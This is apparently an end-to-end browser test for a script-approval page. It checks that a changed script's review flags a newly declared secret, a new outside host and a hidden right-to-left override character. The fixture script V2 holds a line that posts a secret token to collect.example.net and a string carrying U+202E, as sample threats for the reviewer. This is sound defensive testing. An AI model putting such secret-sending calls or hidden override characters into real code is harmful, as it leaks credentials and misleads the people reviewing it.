import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import {
  expectAccessible,
  launchChromium,
  screenshot,
  startSteward,
  type RunningSteward,
} from '../support/browser.js';
import { overflowing, pageWidth, setupAdmin, uiLogin, type ApiCall } from '../support/ui-admin.js';

/**
 * The review, built for risk, against a real `steward start`: an approved script that sends one
 * secret to one host is changed to read a second secret, call a second host and carry a
 * right-to-left override. Above the diff the page says who proposed it and when, what stays
 * running, which schedule runs it, what it can reach with the new marked, which secrets are set;
 * the diff marks the changed words and shows the hidden character by its code, side by side on
 * a desktop and in one column on a 390 px phone. "Approve and next" goes through the queue, and
 * the dashboard's queue comes ten to a page.
 */
const V1 = [
  '# @description: weather for a city',
  '# @secrets: API_KEY -> api.example.com in header Authorization',
  'def main():',
  '    r = http.get("https://api.example.com/v1?q=" + args.get("city", "Oslo"), headers = {"Authorization": secrets.get("API_KEY")})',
  '    return r.status',
  '',
].join('\n');

const V2 = [
  '# @description: weather for a city',
  '# @secrets: API_KEY -> api.example.com in header Authorization',
  '# @secrets: EXTRA_TOKEN -> collect.example.net',
  'def main():',
  '    r = http.get("https://api.example.com/v2?q=" + args.get("city", "Bergen"), headers = {"Authorization": secrets.get("API_KEY")})',
  '    http.post("https://collect.example.net/in", body = secrets.get("EXTRA_TOKEN"))',
  '    note = "ok\u202e # }"',
  '    return r.status',
  '',
].join('\n');

describe('the review of a changed script', { timeout: 240_000 }, () => {
  let steward: RunningSteward;
  let browser: Browser;
  let context: BrowserContext;
  let page: Page;
  let api: ApiCall;
  let scheduleId: string;
  const pageErrors: string[] = [];

  beforeAll(async () => {
    steward = await startSteward(null);
    api = await setupAdmin(steward.base);
    const created = await api('POST', '/api/scripts', { name: 'weather.star', source: V1 });
    expect(created.status, JSON.stringify(created.body)).toBe(201);
    expect(
      (await api('POST', '/api/scripts/weather.star/approve', { hash: created.body.hash })).status,
    ).toBe(200);
    expect((await api('POST', '/api/secrets/API_KEY', { value: 'k-weather-1' })).status).toBe(200);
    const schedule = await api('POST', '/api/schedules', {
      name: 'morning weather',
      type: 'script',
      script_name: 'weather.star',
      cron_expr: '0 7 * * *',
      enabled: true,
    });
    expect(schedule.status, JSON.stringify(schedule.body)).toBe(201);
    scheduleId = schedule.body.id;
    expect((await api('PUT', '/api/scripts/weather.star', { source: V2 })).status).toBe(200);
    // Eleven more pending scripts, created after it: the queue spans two dashboard pages.
    for (let i = 1; i <= 11; i++) {
      const name = `queued-${String(i).padStart(2, '0')}.star`;
      const made = await api('POST', '/api/scripts', {
        name,
        source: `def main():\n    return ${i}\n`,
      });
      expect(made.status).toBe(201);
    }
    browser = await launchChromium();
    context = await browser.newContext({
      baseURL: steward.base,
      viewport: { width: 1280, height: 900 },
      reducedMotion: 'reduce',
    });
    page = await context.newPage();
    page.setDefaultTimeout(15_000);
    page.on('pageerror', (err) => pageErrors.push(err.message));
    await uiLogin(page);
  }, 180_000);

  afterEach(async (ctx) => {
    if (ctx.task.result?.state === 'fail' && page) {
      await screenshot(page, `review-failed-${ctx.task.name.slice(0, 30).replace(/\W+/g, '-')}`);
    }
  });

  afterAll(async () => {
    await browser?.close();
    await steward?.stop();
  });

  const reach = () => page.getByRole('region', { name: 'Before you decide' });

  it('says who proposed it, what keeps running, what it can reach and what is new', async () => {
    await page.goto('/scripts/weather.star/review');
    await page.getByRole('heading', { name: 'Before you decide' }).waitFor();
    const text = (await reach().textContent()) ?? '';
    expect(text).toMatch(/Proposed by the administrator admin/);
    expect(text).toMatch(/The approved version [0-9a-f]{8} keeps running/);
    expect(text).toMatch(/rejecting stops the script altogether/);
    await reach().getByRole('link', { name: 'morning weather' }).waitFor();

    const secrets = reach()
      .getByRole('list', { name: 'Secrets it declares' })
      .getByRole('listitem');
    expect(await secrets.count()).toBe(2);
    const [apiKey, extra] = await secrets.allTextContents();
    // The approved secret is set and not new; the new one is marked new and not set.
    expect(apiKey).toMatch(
      /^API_KEYsetsent only to api\.example\.com, placed in header Authorization$/,
    );
    expect(extra).toMatch(
      /^EXTRA_TOKENnewnot setsent only to collect\.example\.netnew, placed anywhere/,
    );
    const hosts = await reach().getByRole('list', { name: 'Hosts the code calls' }).textContent();
    expect(hosts).toBe('api.example.comcollect.example.netnew');
    expect(await reach().getByRole('list', { name: 'Host modules it uses' }).textContent()).toBe(
      'httpsecrets',
    );
    // The hidden character: named above the diff and shown by its code inside it.
    const hidden = reach().getByRole('alert').filter({ hasText: 'Characters you cannot see' });
    expect(await hidden.textContent()).toMatch(/line 7, column 15: U\+202E right-to-left override/);
    const table = page.getByRole('table', { name: /^Changes: / });
    const mark = table.locator('mark.hidden-char');
    expect(await mark.count()).toBe(1);
    expect(await mark.getAttribute('title')).toBe('U+202E right-to-left override');
    // The override itself is not on the page: it cannot reorder what the reviewer reads.
    expect(await page.locator('main').textContent()).not.toContain('\u202e');
    // Within the changed line only the changed words are marked.
    const words = await table.locator('mark.intraline').allTextContents();
    expect(words).toEqual(expect.arrayContaining(['v1', 'Oslo', 'v2', 'Bergen']));
    await expectAccessible(page, 'review');
    await screenshot(page, 'review-desktop');
  });

  it('shows the diff in one column on a 390 px phone, within the screen', async () => {
    await page.setViewportSize({ width: 390, height: 844 });
    await page.reload();
    const unified = page.getByRole('table', { name: /^Changes, one column/ });
    await unified.waitFor();
    expect(await page.getByRole('table', { name: /^Changes: / }).count()).toBe(0);
    const rows = await unified.locator('tbody tr').allTextContents();
    // Removed lines come before the lines that replace them.
    const removed = rows.findIndex((r) => r.includes('v1?q='));
    const added = rows.findIndex((r) => r.includes('v2?q='));
    expect(removed).toBeGreaterThan(-1);
    expect(added).toBeGreaterThan(removed);
    expect(await unified.locator('mark.hidden-char').count()).toBe(1);
    expect(await pageWidth(page), (await overflowing(page)).join('\n')).toBeLessThanOrEqual(390);
    await expectAccessible(page, 'review on a phone');
    await screenshot(page, 'review-phone');
    await page.setViewportSize({ width: 1280, height: 900 });
  });

  it('approves and moves on to the next script waiting, then to the script page at the end', async () => {
    await page.goto('/scripts/weather.star/review');
    await page.getByRole('button', { name: 'Approve and next' }).click();
    // The oldest change waiting after weather.star: the first queued script.
    await expect.poll(() => new URL(page.url()).pathname).toBe('/scripts/queued-01.star/review');
    await page.getByText('weather.star approved').waitFor();
    expect(await reach().textContent()).toMatch(/Never approved: nothing of this script runs/);
    expect(await reach().textContent()).toMatch(/Schedules that run it: none\./);
    const weather = (await api('GET', '/api/scripts/weather.star')).body;
    expect(weather.status).toBe('approved');
    expect(weather.hash).toBe((await api('GET', '/api/scripts/weather.star')).body.hash);
    // The schedule still names it: the approved text is what it runs now.
    expect((await api('GET', `/api/schedules/${scheduleId}`)).body.script_name).toBe(
      'weather.star',
    );
  });

  it('pages the dashboard queue ten at a time', async () => {
    await page.goto('/');
    const queue = page.getByRole('region', { name: 'Waiting for your approval' });
    const rows = queue.getByRole('row');
    // Eleven still wait (one header row and ten on the first page).
    await expect.poll(() => rows.count()).toBe(11);
    await queue.getByText('11 waiting; 1–10 shown').waitFor();
    await queue.getByRole('button', { name: 'Page 2' }).click();
    await expect.poll(() => rows.count()).toBe(2);
    expect(await rows.nth(1).textContent()).toMatch(/queued-11\.star/);
    await expectAccessible(page, 'dashboard queue');
    await page.setViewportSize({ width: 390, height: 844 });
    // The layout settles after the resize.
    await expect
      .poll(async () => ({ width: await pageWidth(page), wide: await overflowing(page) }))
      .toEqual({ width: 390, wide: [] });
    await screenshot(page, 'dashboard-queue-phone');
    expect(pageErrors).toEqual([]);
  });
});
